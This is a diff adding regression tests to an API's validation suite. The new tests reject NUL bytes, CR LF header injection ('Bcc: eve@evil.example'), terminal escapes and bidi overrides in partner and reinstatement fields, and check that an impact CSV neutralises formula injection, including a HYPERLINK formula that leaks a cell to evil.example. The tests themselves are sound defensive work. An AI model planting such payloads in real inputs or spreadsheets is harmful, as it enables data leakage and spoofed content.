@@ -50,6 +50,7 @@ def line(**changes) -> dict:
     return {"product_id": "C9300-48P", "quantity": 2, **changes}
 
 
+PARTNER = {"id": "NEW1", "name": "Acme Networks", "contact_email": "ops@acme.example", "country": "CA"}
 BOOKING = booking_body("NOBODY", 2)  # validation comes before the partner is looked up (today: 404)
 HOSTILE = [
     ("negative zero money", "/v1/deals", with_(BOOKING, new_products_value="-0.00")),
@@ -67,6 +68,16 @@ HOSTILE = [
     ("NUL in a received serial", "/v1/deals/DNONE/receipts", {"items": [with_(ITEM, serial_number="SN\x00")]}),
     ("terminal escape in a reason", "/v1/deals/DNONE/cancel", {"reason": "\x1b[31mwithdrawn"}),
     ("NUL in an extension's reason", "/v1/deals/DNONE/extend", {"extend_by": "30d", "reason": "asked\x00"}),
+    # Issue 24, 6: a partner's name and country and a reinstate's reason took any text (a NUL: a 500 on PostgreSQL).
+    ("NUL in a partner's name", "/v1/partners", with_(PARTNER, name="Acme\x00Corp")),
+    ("CR LF in a partner's name", "/v1/partners", with_(PARTNER, name="Acme\r\nBcc: eve@evil.example")),
+    ("escape in a partner's country", "/v1/partners", with_(PARTNER, country="C\x1b[2JA")),
+    ("bidi override in a partner's name", "/v1/partners", with_(PARTNER, name="Acme \u202egnp.exe")),
+    ("bidi isolate in a partner's country", "/v1/partners", with_(PARTNER, country="\u2066CA\u2069")),
+    ("bidi override in a customer's name", "/v1/deals", with_(BOOKING, customer={"name": "Acme\u202eCorp", "country": "CA"})),
+    ("NUL in a reinstate's reason", "/v1/partners/NOBODY/reinstate", {"reason": "renewed\x00"}),
+    ("escape in a reinstate's reason", "/v1/partners/NOBODY/reinstate", {"reason": "\x1b[31mrenewed"}),
+    ("bidi override in a reinstate's reason", "/v1/partners/NOBODY/reinstate", {"reason": "renewed \u202ewithdrawn"}),
 ]
 
 
@@ -85,6 +96,12 @@ def test_free_text_keeps_its_line_breaks_and_names_keep_their_letters():
     assert pickup.address == "1 Main St\nToronto ON" and pickup.ready_on == date(2026, 12, 1)
     assert CancelRequest(reason="customer withdrew;\r\n\tsee ticket 42").reason.startswith("customer")
     assert Customer(name="株式会社 北風", country="JP").name == "株式会社 北風"
+    # Right-to-left names need no bidi control: they are refused, the marks (U+200E, U+200F) are not.
+    assert Customer(name="شركة الريح الشمالية\u200f", country="AE").name.startswith("شركة")
+    from api.routes.partners import PartnerCreate, Reinstatement
+
+    assert PartnerCreate(id="P1", name="Zoë & Søn", contact_email="a@zoe.example", country="DK").name == "Zoë & Søn"
+    assert Reinstatement(reason="renewed;\r\n\tsee ticket 42").reason.startswith("renewed")
 
 
 async def test_a_naive_carrier_event_time_is_a_422(tmp_path):
@@ -155,3 +172,27 @@ async def test_extend_by_is_capped(tmp_path):
         for huge in ("99999999999d", "3650d", "0.5s"):
             problem = assert_422(await http.post(f"/v1/deals/{deal_id}/extend", json={"extend_by": huge, "reason": "customer asked"}, headers=ops))
             assert "extend_by" in json.dumps(problem)
+
+
+async def test_the_impact_csv_quotes_a_product_id_a_spreadsheet_would_read_as_a_formula(tmp_path):
+    """Issue 24, 5. Before: the API's impact CSV wrote product ids (a receipt's, the caller's text) raw, so
+    `=HYPERLINK(...)` was a live formula in ops' spreadsheet; the console's CSV already quoted such cells."""
+    import csv
+    import io
+
+    from store.tables import ReturnedItem
+
+    settings = make_settings(tmp_path)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    with session_scope(settings.effective_database_url) as session:
+        for n, product_id in enumerate((formula, "+SUM(1)", "-1+2", "@cmd", "C9300-48P")):
+            session.add(ReturnedItem(serial=f"SN-{n}", deal_id="D1", batch_id="B1", product_id=product_id, condition="working", age_years=1, disposition="recycle"))
+        session.commit()
+    async with api_client(settings) as http:
+        answer = await http.get("/v1/reports/impact?format=csv", headers=key(settings))
+    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv"), answer.text
+    rows = list(csv.reader(io.StringIO(answer.text)))
+    unknown = {row[1]: row[2] for row in rows if row[0] == "unknown_product_units"}
+    assert unknown == {"'" + formula: "1", "'+SUM(1)": "1", "'-1+2": "1", "'@cmd": "1"}, unknown
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row), rows
+    assert ["totals", "units_returned", "5"] in rows  # the figures themselves are untouched
